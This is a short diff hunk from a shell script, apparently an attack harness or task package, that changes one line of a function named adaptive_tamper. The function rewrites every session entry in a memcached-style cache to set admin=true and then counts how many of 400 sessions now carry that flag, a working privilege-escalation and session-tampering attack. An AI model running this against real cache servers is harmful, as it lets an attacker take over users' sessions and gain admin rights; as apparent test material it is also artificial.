@@ -277,6 +277,6 @@ adaptive_dump() {
 # Every session becomes one of the attacker's.
 adaptive_tamper() {
 	harm call read
-	all_keys | sed -n 's/^session.*/set & 0 0 10\r\nadmin=true\r/p' | cache_ask | grep -c STORED >"$stage/answer"
+	all_keys | sed -n 's/^session.*/set & 0 0 10\r\nadmin=true\r/p' | cache_ask | grep -c STORED
 	printf 'get session:%d\r\n' {0..399} | cache_ask | grep -ac admin=true
 }
